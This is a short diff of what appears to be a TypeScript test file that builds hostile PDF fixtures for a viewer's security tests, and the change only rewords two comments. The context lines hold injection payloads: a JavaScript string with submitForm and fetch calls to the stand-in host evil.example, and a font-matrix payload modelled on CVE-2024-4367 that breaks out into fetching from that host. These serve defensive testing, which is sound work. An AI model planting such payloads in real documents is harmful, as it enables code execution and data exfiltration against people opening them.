@@ -6,10 +6,10 @@ type Hostile = { what: string; pdf: Uint8Array<ArrayBuffer>; isShown: boolean }
 const text = 'BT /F1 24 Tf 72 720 Td (Umowa) Tj ET'
 const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
 const call = `app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\); fetch\\('https://evil.example/'\\)`
-/** What CVE-2024-4367 ran: the number of a matrix that ended up in the source of a function. */
+/** Payload of CVE-2024-4367: the number of a matrix that ended up in the source of a function. */
 const matrix = `[1 2 3 4 5 (0\\); document.title = 'run'; fetch\\('https://evil.example/font'\\)//)]`
 
-/** One page of text, with the additions of a case. */
+/** Creates a PDF with one page of text and the additions of a case. */
 function pdfWith({
   catalog = '',
   page = '',
